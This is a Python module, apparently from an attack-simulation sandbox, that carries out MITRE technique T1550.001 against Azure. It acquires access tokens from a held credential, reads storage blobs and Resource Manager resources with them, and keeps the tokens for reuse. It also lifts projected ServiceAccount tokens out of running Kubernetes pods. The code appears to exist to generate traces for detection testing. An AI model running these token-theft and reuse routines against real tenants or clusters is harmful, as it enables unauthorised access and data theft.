"""Attack: turn a way in into an access token, read something with it, and keep both for later.

Technique   T1550.001 Use Alternate Authentication Material: Application Access Token
Needs       a credential that the token endpoint accepts
Leaves      a sign-in row, a row of whatever was read, and a token that lives on in the attacker's hands
Source      https://attack.mitre.org/techniques/T1550/001/
"""

import base64
import json

from sandbox.attacks import stolen_tokens
from sandbox.attacks.attacker import Attacker, AttackFailedError
from sandbox.attacks.held import Ask, Held

ARM_SCOPE = "https://management.azure.com/.default"
GRAPH_SCOPE = "https://graph.microsoft.com/.default"


async def read_blob(attacker: Attacker, held: Held, how: str, ask: Ask, blob_url: str) -> None:
    """Buy a token for storage and read the blob. Raises `AttackFailedError` where that fails."""
    token = await buy(held, how, ask)
    await stolen_tokens.read_data(attacker, how, blob_url, token)
    held.uses[how] = lambda: attacker.read_blob(blob_url, token)


async def read_resource(attacker: Attacker, held: Held, how: str, ask: Ask, path: str) -> None:
    """Buy a token for Resource Manager and read the resource at this path and query."""
    token = await buy(held, how, ask)
    url = attacker.endpoints["arm"] + path
    await stolen_tokens.until_read(how, lambda: attacker.read(url, token))
    held.uses[how] = lambda: attacker.read(url, token)


async def buy(held: Held, how: str, ask: Ask) -> str:
    """A token, and the way to it kept for later. Raises `AttackFailedError` when patience runs out."""
    token = await stolen_tokens.buy_token(how, ask)
    held.ways[how] = ask
    held.secrets[f"access token by {how}"] = token
    held.traces[f"token by {how}"] = _token_id(token)
    return token


def _token_id(token: str) -> str:
    """The `uti` claim, which sign-in rows show too.

    https://learn.microsoft.com/entra/identity-platform/access-token-claims-reference
    """
    payload = token.split(".")[1]
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    return str(claims["uti"])


async def steal_account_token(
    attacker: Attacker, held: Held, cluster: str, namespace: str, account: str
) -> str:
    """The projected token out of a running pod. Raises `AttackFailedError` where there is no such pod."""
    stolen = await attacker.read_mounted_token(cluster, namespace, account)
    if stolen is None:
        raise AttackFailedError(f"no pod of {account} runs in {cluster}")
    held.secrets[f"ServiceAccount token of {cluster}"] = stolen
    return stolen
